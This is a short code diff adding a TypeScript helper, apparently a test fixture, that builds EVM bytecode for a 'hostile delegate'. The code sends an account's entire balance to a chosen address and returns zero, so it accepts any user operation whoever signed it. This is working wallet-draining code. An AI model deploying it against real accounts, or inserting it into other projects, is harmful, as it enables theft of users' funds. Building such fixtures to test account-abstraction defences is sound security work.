@@ -1,0 +1,9 @@
+import { type Address, concatHex, type Hex } from 'viem'
+
+/**
+ * The code of a hostile delegate: whatever it is asked, it sends the account's whole balance to the address and
+ * returns zero. So it accepts any user operation, whoever signed it.
+ */
+export function sweeperCode(to: Address): Hex {
+  return concatHex(['0x5f5f5f5f4773', to, '0x5af15060205ff3'])
+}
